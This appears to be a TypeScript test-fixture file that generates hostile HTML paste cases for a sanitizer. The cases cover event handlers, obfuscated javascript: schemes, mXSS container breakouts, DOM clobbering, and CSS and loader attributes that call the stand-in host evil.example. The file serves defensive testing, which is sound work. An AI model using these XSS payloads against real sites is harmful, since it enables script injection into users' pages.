import { amid, type HostilePaste } from './hostilePaste.ts'

/** Anything that runs sets this in the page, wherever it stands. */
const run = 'window.hasRun=true'
const far = 'https://evil.example/x'

const cases = (
  about: string,
  over: readonly string[],
  html: (one: string) => string,
): readonly HostilePaste[] => over.map((one) => ({ name: `${about}: ${one}`, html: html(one) }))

const words = (text: string): readonly string[] => text.split(' ')

const handlers = words(
  'onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput ' +
    'onbeforematch onbeforeprint onbeforetoggle onbeforeunload onblur oncancel oncanplay onchange onclick onclose oncontextmenu oncopy ' +
    'oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop onended onerror onfocus onfocusin ' +
    'onfocusout onformdata ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart ' +
    'onlostpointercapture onmessage onmousedown onmouseenter onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow ' +
    'onpaste onplay onpointerdown onpointermove onpointerover onpointerup onpopstate onprogress onreset onresize onscroll onscrollend ' +
    'onsearch onseeked onselect onselectionchange onselectstart onslotchange onstalled onsubmit onsuspend ontimeupdate ontoggle ' +
    'ontouchend ontouchstart ontransitionend ontransitionrun onunload onvolumechange onwaiting onwheel',
)

const carriers = words(
  'a abbr area article audio b body button canvas center dialog dir div fieldset figure font form frame h1 h4 i iframe image img input ' +
    'ins label li link main mark menu meter nav ol optgroup p picture pre progress q s samp section slot small span strong sub sup ' +
    'table td th time tr tt u ul var video',
)

/** Elements whose inside the parser reads by rules of its own, so that text becomes markup the second time it is read. */
const containers = words(
  'style script xmp iframe noembed noframes noscript textarea title template select option math svg mtext annotation-xml desc foreignObject table caption colgroup',
)

const schemes = [
  'javascript:', 'JAVASCRIPT:', 'java\nscript:', 'java\rscript:', 'javascript\t:', '\u0000javascript:', '\u00A0javascript:', '\u2028javascript:',
  'javascript&#58;', 'javascript&#x3A;', '&#x6a;avascript:', '&#0000106avascript:', 'javas&Tab;cript:', 'javas&NewLine;cript:', 'javascript:%0A',
  'javascript://example.org/%0A', 'vbscript:', 'livescript:', 'mocha:', 'data:text/html;base64,', 'data:application/xhtml+xml,', 'data:image/svg+xml,',
  'view-source:javascript:', 'feed:javascript:', 'jar:javascript:', 'filesystem:', 'blob:', 'intent:', 'chrome:', 'about:', 'ws:', 'ftp:', 'tel:', 'mailto:', 'sms:', 'magnet:', 'ms-word:ofe|u|', 'search-ms:', 'x-apple.systempreferences:',
] // prettier-ignore

const loaders: readonly string[] = [
  'img src', 'img srcset', 'img lowsrc', 'img dynsrc', 'image href', 'input type=image src', 'source src', 'source srcset', 'audio src', 'video src',
  'video poster', 'track src', 'embed src', 'object data', 'object codebase', 'applet code', 'iframe src', 'frame src', 'link rel=stylesheet href',
  'link rel=icon href', 'link rel=import href', 'link rel=manifest href', 'link rel=preload as=script href', 'link rel=modulepreload href',
  'link rel=prerender href', 'link rel=preconnect href', 'link rel=next href', 'script src', 'script type=module src', 'base href', 'body background',
  'td background', 'table background', 'bgsound src', 'isindex action', 'form action', 'button formaction', 'input formaction', 'a ping', 'area href',
  'blockquote cite', 'q cite', 'del cite', 'ins cite', 'svg xml:base', 'use href', 'use xlink:href', 'feimage href', 'script href', 'html manifest', 'head profile', 'menuitem icon', 'portal src', 'fencedframe src', 'model src',
] // prettier-ignore

const styles: readonly string[] = [
  `background:url(${far})`, `background-image:image-set(url(${far}) 1x)`, `list-style:url(${far})`, `content:url(${far})`, `cursor:url(${far}),auto`,
  `border-image:url(${far})`, `mask:url(${far}#m)`, `filter:url(${far}#f)`, `clip-path:url(${far}#c)`, `shape-outside:url(${far})`, `offset-path:url(${far}#o)`,
  `behavior:url(${far})`, `-moz-binding:url(${far})`, `width:expression(${run})`, `background:\\75\\72\\6c(${far})`, `--x:url(${far});background:var(--x)`,
  `position:fixed;inset:0;z-index:9`, `background:URL( "${far}" )`, `@import "${far}"`, `src:url(${far})`,
] // prettier-ignore

const breakouts: readonly string[] = [
  `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `--><svg onload=${run}>`, `]]><script>${run}</script>`, `</p></div></body><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`, `<?xml-stylesheet href="javascript:${run}"?>`, `<!DOCTYPE x [<!ENTITY y "${run}">]>`, `<%${run}%>`, `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`, `<a href="x" onclick="${run}" href="y">x</a>`, `<b/onclick=${run}//>x`, `<b\u000Conclick=${run}>x</b>`,
  `<b onclick\n=\n${run}>x</b>`, `<b onclick="${run}&quot;">x</b>`, `<b ONCLICK='${run}'>x</b>`, `<b x='"' onclick=${run} y='"'>x</b>`, `<svg><set attributeName=onload to=${run} />`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><handler type="text/javascript">${run}</handler></svg>`, `<math href="javascript:${run}">x</math>`,
  `<form id=x></form><button form=x formaction="javascript:${run}">x</button>`, `<form><input name=attributes><input name=childNodes></form>`,
  `<a id=hasRun></a><a id=hasRun name=true></a>`, `<img name=body>`, `<form name=document><input name=cookie></form>`, `<meta charset=utf-7>+ADw-script+AD4-${run}`,
] // prettier-ignore

/** The classes of public collections of such cases, each written out by us along what can vary in it. */
export const classes: Readonly<Record<string, readonly HostilePaste[]>> = {
  'handlers of events': cases('a handler', handlers, (on) => amid(`<b ${on}="${run}" tabindex=0>x</b>`)),
  'elements that carry one': cases(
    'an element',
    carriers,
    (tag) => `<p>harmless</p><${tag} onerror=${run} onload=${run} src=x>`,
  ),
  'text that becomes markup': cases(
    'inside',
    containers,
    (tag) => `<p>harmless</p><${tag}><p title="</${tag}><img src=x onerror=${run}>"></${tag}>`,
  ),
  'addresses that run': cases('a scheme', schemes, (scheme) => amid(`<a href="${scheme}${run}">x</a>`)),
  'things that load': cases('a loader', loaders, (tag) => {
    const [name = '', ...attributes] = tag.split(' ')
    return `<p>harmless</p><${name} ${attributes.join(' ')}="${far}"></${name}>`
  }),
  'styles that load or cover': cases('a style', styles, (style) => amid(`<b style='${style}'>x</b>`)),
  'ways out of where they stand': cases('a breakout', breakouts, (html) => `<p>harmless</p><p>${html}</p>`),
}
